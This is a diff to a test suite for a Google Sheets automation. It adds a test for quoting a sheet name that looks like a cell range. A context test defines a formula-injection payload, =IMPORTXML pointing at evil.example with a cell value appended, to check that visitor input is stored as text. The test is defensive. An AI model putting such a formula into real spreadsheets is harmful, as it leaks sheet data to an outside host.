@@ -149,6 +149,13 @@ describe('Google Sheets in an automation', () => {
       expect(rowsOf(leads)).toHaveLength(2);
     });
 
+    it('tells the row in a sheet whose name looks like a place', async () => {
+      const leads = google.data.add('Leads', [['Name', 'E-mail', 'EchoAI id'], ['Eve']]);
+      leads.sheets[0]!.title = "Ada's!A9";
+      const work = node('sheets_append_row', leads, { values, sheet: "Ada's!A9" });
+      expect(outputOf(await perform(work))).toMatchObject({ row: 3, range: "'Ada''s!A9'!A3:C3" });
+    });
+
     it('writes what a visitor wrote as text, never as a formula', async () => {
       const leads = google.data.add('Leads', [['Name', 'E-mail', 'EchoAI id']]);
       const evil = '=IMPORTXML("https://evil.example/?"&A1,"//a")';
